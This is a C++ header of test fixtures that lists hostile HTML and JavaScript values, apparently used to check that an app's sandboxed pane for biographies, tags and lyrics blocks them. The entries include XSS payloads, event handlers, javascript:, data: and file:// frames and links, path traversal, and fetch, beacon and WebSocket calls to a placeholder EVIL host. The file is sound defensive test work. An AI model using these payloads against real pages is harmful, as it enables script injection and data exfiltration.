// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <QByteArray>

namespace zib {

/// What a biography, a tag or a lyric may hold. In each, EVIL stands for a server that must not be asked,
/// VIDEO for the address of the video site, OUTSIDE for the folder around that of the page's files, HIT for
/// script that gives itself away.
struct HostileValue {
    const char* name;
    QByteArray value;
};

/// They act by themselves, if they do.
inline const HostileValue kHostileValues[] = {
    {"script", "<script>HIT</script>"},
    {"script with a guessed mark", "<script nonce=''>HIT</script><script nonce='nonce'>HIT</script>"},
    {"script from elsewhere", "<script src='EVIL/a.js'></script>"},
    {"script module",
     "<script type=module src='EVIL/a.js'></script><link rel=modulepreload href='EVIL/b.js'>"},
    {"script from a file", "<script src='file://OUTSIDE/hit.js'></script><script src='../hit.js'></script>"},
    {"script from the page's files", "<script src='hit.js'></script>"},
    {"open tag before the page's script", "<script src='EVIL/a.js' x='"},
    {"open tag, unquoted", "<script src='EVIL/a.js' "},
    {"event handlers",
     "<img src=x onerror='HIT'><svg onload='HIT'></svg><details open ontoggle='HIT'>x</details>"
     "<input autofocus onfocus='HIT'><style onload='HIT'></style><body onload='HIT'>"},
    {"a link that clicks itself", "<a href='zib://search/tag/x' id=l autofocus onfocus='this.click()'>x</a>"},
    {"vector script", "<svg><script>HIT</script><script href='EVIL/a.js'/></svg>"},
    {"frames", "<iframe src='EVIL/f'></iframe><iframe src='//EVIL/f'></iframe><iframe "
               "src='zib://search/tag/x'></iframe>"},
    {"frames of script",
     "<iframe src='javascript:parent.HIT'></iframe><iframe srcdoc='<script>parent.HIT</script>'></iframe>"
     "<iframe src='data:text/html,<script>new Image().src=\"EVIL/d\"</script>'></iframe>"},
    {"frame with a refresh",
     "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=EVIL/r'>\"></iframe>"
     "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=zib://search/tag/x'>\"></iframe>"},
    {"frame of a file", "<iframe src='file://OUTSIDE/hit.html'></iframe><iframe src='../hit.html'></iframe>"},
    {"frame that looks like the video's",
     "<iframe src='VIDEO@EVILHOST/f'></iframe><iframe src='VIDEO.EVILHOST/f'></iframe>"},
    {"frameset", "<frameset><frame src='EVIL/f'></frameset>"},
    {"objects", "<object data='EVIL/o'></object><embed src='EVIL/e'><applet code='EVIL/a'></applet>"
                "<object data='zib://search/tag/x'></object>"},
    {"refresh", "<meta http-equiv=refresh content='0;url=EVIL/r'>"},
    {"refresh to an action", "<meta http-equiv=refresh content='0;url=zib://search/tag/x'>"},
    {"refresh to script", "<meta http-equiv=refresh content='0;url=javascript:HIT'>"},
    {"refresh to a file", "<meta http-equiv=refresh content='0;url=file://OUTSIDE/hit.html'>"},
    {"base", "<base href='EVIL/'><img src='b.png'>"},
    {"styles", "<style>@import url('EVIL/s.css');</style><link rel=stylesheet href='EVIL/l.css'>"
               "<style>@font-face{font-family:e;src:url('EVIL/f.woff')}p{font-family:e}</style><p>x</p>"},
    {"links of other kinds",
     "<link rel=icon href='EVIL/i'><link rel=prefetch href='EVIL/p'><link rel=prerender href='EVIL/r'>"
     "<link rel=preload as=image href='EVIL/q' type='x'><link rel=manifest href='EVIL/m'>"
     "<link rel=preload as=script href='EVIL/s'><link rel=preload as=fetch href='EVIL/t'>"},
    {"media", "<video src='EVIL/v' autoplay></video><audio src='EVIL/a' autoplay></audio>"
              "<video><track default src='EVIL/t'></video>"},
    {"vector imports", "<svg><use href='EVIL/u#a'/></svg><svg filter='url(EVIL/f#a)'></svg>"},
    {"pictures from files",
     "<img src='file://OUTSIDE/secret.png'><img src='../secret.png'><img src='%2e%2e/secret.png'>"
     "<img src='..%2fsecret.png'><img src='link.png'><img src='file://OUTSIDE/files/../secret.png'>"},
    {"pictures that act",
     "<img src='zib://search/tag/x'><p style='background:url(zib://search/tag/x)'>x</p>"},
    {"form", "<form action='EVIL/f' method=post><input autofocus name=a></form>"},
    {"another policy",
     "<meta http-equiv=Content-Security-Policy content='script-src * unsafe-inline'><script>HIT</script>"},
};

/// A click in the middle of the pane does what the value names, and still nothing comes of it. Each covers
/// the pane.
inline const HostileValue kHostileTraps[] = {
    {"link to script", "<a STYLE href='javascript:HIT'>x</a>"},
    {"link to a file", "<a STYLE href='file://OUTSIDE/hit.html'>x</a>"},
    {"link to data", "<a STYLE href='data:text/html,<script>HIT</script>'>x</a>"},
    {"link to the page's files", "<a STYLE href='inside.png'>x</a>"},
    {"link to a window", "<a STYLE href='about:blank' target=_blank>x</a>"},
    {"download", "<a STYLE href='inside.png' download>x</a>"},
    {"form to elsewhere", "<form action='EVIL/f' method=post><button STYLE name=a value=b>x</button></form>"},
    {"form of script", "<form action='javascript:HIT'><button STYLE>x</button></form>"},
    {"button to elsewhere", "<form action='zib://x'><button STYLE formaction='EVIL/f'>x</button></form>"},
};

/// What even the page's own script cannot do.
inline const HostileValue kRefusedScripts[] = {
    {"fetch", "fetch('EVIL/f').catch(()=>{});fetch('zib://search/tag/x').catch(()=>{});"},
    {"read a file", "fetch('file://OUTSIDE/"
                    "hit.js').then(()=>{HIT}).catch(()=>{});fetch('hit.js').then(()=>{HIT}).catch(()=>{});"},
    {"request", "try{let x=new XMLHttpRequest;x.open('GET','EVIL/x');x.send()}catch(e){}"},
    {"socket", "try{new WebSocket('WSEVIL/s')}catch(e){};try{new EventSource('EVIL/e')}catch(e){}"},
    {"beacon", "try{navigator.sendBeacon('EVIL/b','x')}catch(e){}"},
    {"window", "try{window.open('EVIL/w')}catch(e){};try{window.open('zib://search/tag/x')}catch(e){}"},
    {"worker", "try{new Worker('EVIL/w.js')}catch(e){};try{new SharedWorker('EVIL/w.js')}catch(e){}"},
    {"evaluate", "try{eval('HIT')}catch(e){};try{new Function('HIT')()}catch(e){}"},
    {"store", "try{localStorage.setItem('a','b');HIT}catch(e){}"},
};

} // namespace zib
